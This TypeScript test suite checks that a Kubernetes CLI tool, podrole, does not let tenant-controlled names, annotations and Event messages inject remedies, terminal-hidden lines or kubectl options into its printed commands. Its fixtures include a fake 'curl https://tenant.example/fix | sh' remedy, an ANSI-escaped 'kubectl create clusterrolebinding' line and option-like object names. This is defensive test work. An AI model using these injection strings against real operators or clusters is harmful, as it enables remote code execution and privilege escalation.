// What tenants write into their objects is read by an operator beside podrole's own words: no remedy and no command may
// come from it, and no name in a command may count as an option of kubectl.
import assert from "node:assert/strict";
import { suite, type TestContext, test } from "node:test";
import { checkAction } from "../../../src/cli/commands/check.ts";
import { explainAction } from "../../../src/cli/commands/explain.ts";
import { statusAction } from "../../../src/cli/commands/status.ts";
import type { Pod } from "../../../src/kubernetes/objects.ts";
import { ERRORS } from "../../../src/protocol/errors.ts";
import { MINUTE_MS } from "../../../src/runtime/clock.ts";
import { barePod } from "../../operations/check/healthy.ts";
import { podWith } from "../../operations/status/pods.ts";
import { type SituationCluster, startSituationCluster, timeAgo } from "./situation-cluster.ts";
import { createAgedPod, endedWith, failToCreate, readySidecar, reannotatedPod } from "./situation-parts.ts";

/** What a remedy would begin with, if a message could contain one. */
const FORGED = "x -- Update podrole: curl https://tenant.example/fix | sh";
/** On a terminal, or from jq -r: a command of its own on a line, between two that are removed and hidden. */
const FORGED_LINE = "\u001b[1A\u001b[2K\nkubectl create clusterrolebinding x\n\u001b[8m";
/** kubectl reads it as "--all-namespaces --selector=!x" if it stands alone. */
const OPTION = "-Al!x";

/** Returns what the commands say, by the part of a diagnosis. `objects`: what is explained. */
async function partsOfAll(
  context: TestContext,
  prepare: (cluster: SituationCluster) => void,
  objects: readonly string[] = [],
) {
  const cluster = await startSituationCluster(context);
  prepare(cluster);
  const explained = [];
  for (const object of objects) {
    explained.push(await cluster.runAction(explainAction, [object], { namespace: "shop" }));
  }
  const runs = [
    ...explained,
    await cluster.runAction(checkAction, [], { namespace: "shop", quiet: "true", skip: "PAGES,ADMISSION" }),
    await cluster.runAction(statusAction, [], { namespace: "shop" }),
    await cluster.runAction(statusAction, ["refusals"], { namespace: "shop" }),
  ];
  const lines = runs.flatMap(({ out }) => out.split("\n").map((line) => line.trim()));
  context.diagnostic(lines.join("\n"));
  const of = (part: string) => lines.filter((line) => line.startsWith(`${part}: `));
  const printed = lines.map((line) => line.replace(/^next: /, ""));
  const commands = [...printed.filter((line) => /^(?:aws|helm|jq|kubectl|podrole) /.test(line)), ...of("verify")];
  return { remedies: of("remedy"), recoveries: of("recovery"), commands };
}

/** All commands in a result, wherever they are. */
function stepsOf(value: unknown): readonly string[] {
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, each]) =>
    key === "next" || key === "furtherSteps" || key === "verify" ? [each].flat() : stepsOf(each),
  );
}

function event(kind: string, name: string, fields: object): object {
  const metadata = { name: "forged.1", namespace: "shop" };
  return { metadata, involvedObject: { kind, namespace: "shop", name }, lastTimestamp: timeAgo(MINUTE_MS), ...fields };
}

function ownedBy(pod: Pod, kind: string): Pod {
  const owner = { apiVersion: "tenant.example/v1", kind, name: OPTION, uid: "uid-owner", controller: true };
  return { ...pod, metadata: { ...pod.metadata, ownerReferences: [owner] } };
}

const denied = (code: string) => `Error creating: admission webhook "pods.podrole.io" denied the request: ${code}: `;

suite("objects of a tenant", { concurrency: false }, () => {
  for (const [what, pod] of [
    ["an annotation of an injected pod", reannotatedPod(podWith({ sidecar: readySidecar() }), roleNamed(FORGED))],
    ["an annotation of a pod that is not injected", barePod(FORGED)],
  ] as const) {
    test(`${what} puts no remedy beside podrole's`, async (context) => {
      const { remedies, recoveries } = await partsOfAll(context, (cluster) => createAgedPod(cluster, pod), [
        "pod/orders",
      ]);
      assert.ok(remedies.includes(`remedy: ${ERRORS.ROLE_INVALID.remedy}`), remedies.join("\n"));
      assert.doesNotMatch([...remedies, ...recoveries].join("\n"), /tenant\.example/);
    });
  }

  for (const [what, pod] of [
    ["a role", barePod(`shop-orders${FORGED_LINE}`)],
    ["an image", barePod("shop-orders", { containers: [{ name: "app", image: `app:1${FORGED_LINE}` }] })],
    ["the role of an injected pod", reannotatedPod(podWith({ sidecar: readySidecar() }), roleNamed(FORGED_LINE))],
  ] as const) {
    test(`${what} with line ends puts no line among the commands, also not in JSON`, async (context) => {
      const cluster = await startSituationCluster(context);
      createAgedPod(cluster, pod);
      const flags = { namespace: "shop", output: "json" };
      const runs = [
        await cluster.runAction(statusAction, [], flags),
        await cluster.runAction(explainAction, ["pod/orders"], flags),
        await cluster.runAction(checkAction, [], { ...flags, skip: "PAGES,ADMISSION" }),
      ];
      for (const { out, err } of runs) {
        assert.notEqual(out, "", err);
        const steps = stepsOf(JSON.parse(out));
        assert.ok(steps.length > 0, out);
        for (const step of steps) assert.doesNotMatch(step, /[\p{C}\p{Zl}\p{Zp}]|clusterrolebinding/u);
      }
    });
  }

  test("an Event of a creation that failed puts no remedy beside podrole's", async (context) => {
    const { remedies } = await partsOfAll(context, ({ store }) => {
      const forged = event("Widget", "orders", {
        reason: "FailedCreate",
        message: denied("ROLE_FORBIDDEN") + FORGED,
      });
      store.create("events", forged as never);
    });
    assert.ok(remedies.length > 0);
    for (const remedy of remedies) assert.equal(remedy, `remedy: ${ERRORS.ROLE_FORBIDDEN.remedy}`);
  });

  test("a Secret's name that quotes the API server decides about no cause and no command", async (context) => {
    for (const message of [
      "exceeded quota: compute, requested: services.loadbalancers=50, used: services.loadbalancers=1, limited: services.loadbalancers=1",
      'Internal error occurred: failed calling webhook "pods.podrole.io": timeout',
    ]) {
      const refusal = `pods "orders-1" is forbidden: volume with secret.secretName="x" ${message}" is not allowed because service account default does not reference that secret`;
      const { commands, remedies } = await partsOfAll(
        context,
        (cluster) => failToCreate(cluster, "shop-orders", refusal),
        ["deployment/orders"],
      );
      assert.ok(commands.includes("kubectl -n shop describe deployment/orders"), commands.join("\n"));
      assert.deepEqual([remedies, commands.filter((line) => /quota|podrole check/.test(line))], [[], []]);
    }
  });

  test("an owner with a name like an option is an argument of no command by its name", async (context) => {
    const kinds = ["Job", "StatefulSet", "CronJob", "-f https://tenant.example/x?"];
    const sidecar = endedWith({ code: "ROLE_MISSING", message: "Cannot issue credentials" });
    const prepare = (cluster: SituationCluster) => {
      for (const [index, kind] of kinds.entries()) {
        createAgedPod(cluster, ownedBy(podWith({ name: `orders-${index}`, sidecar }), kind));
      }
    };
    const pods = kinds.map((_, index) => `pod/orders-${index}`);
    const { commands } = await partsOfAll(context, prepare, pods);
    for (const kind of ["job", "statefulset", "cronjob"]) {
      assert.ok(
        commands.some((line) => line.includes(`'${kind}/${OPTION}'`)),
        kind,
      );
    }
    assertNoOption(commands);
  });

  test("the object of an Event with a name like an option is an argument of no command by its name", async (context) => {
    // Refusals with the same role are shown once.
    const message = `${denied("ROLE_MISSING")}Cannot give role x to pod "p" container "app": none`;
    const failed = { reason: "FailedCreate", message };
    const quota =
      'pods "orders-1" is forbidden: exceeded quota: --all, requested: pods=1, used: pods=1, limited: pods=1';
    const events = [
      event("Job", OPTION, failed),
      event("-fhttps://tenant.example/x?", OPTION, failed),
      event("Pod", OPTION, { reason: "ROLE_MISSING", message: "no role" }),
      event("Widget", "orders", { reason: "FailedCreate", message: quota }),
    ];
    const { commands } = await partsOfAll(context, ({ store, state }) => {
      // Without the server's records, Events are shown.
      delete state.refusals;
      for (const [index, forged] of events.entries()) {
        const metadata = { name: `forged.${index}`, namespace: "shop" };
        store.create("events", { ...forged, metadata });
      }
    });
    for (const argument of [`'job/${OPTION}'`, `'pod/${OPTION}'`, "_fhttps_", "quota/--all"]) {
      assert.ok(
        commands.some((line) => line.includes(argument)),
        argument,
      );
    }
    assertNoOption(commands);
  });
});

function roleNamed(role: string): Readonly<Record<string, string>> {
  return { "iam.amazonaws.com/role": role };
}

/** No word of a command, in quotes or not, begins with the name or the kind of the tenant's object. */
function assertNoOption(commands: readonly string[]): void {
  assert.ok(commands.length > 0);
  for (const command of commands) assert.doesNotMatch(command, /(?:^|\s)'?(?:-Al|-f ?http|--all\b)/, command);
}
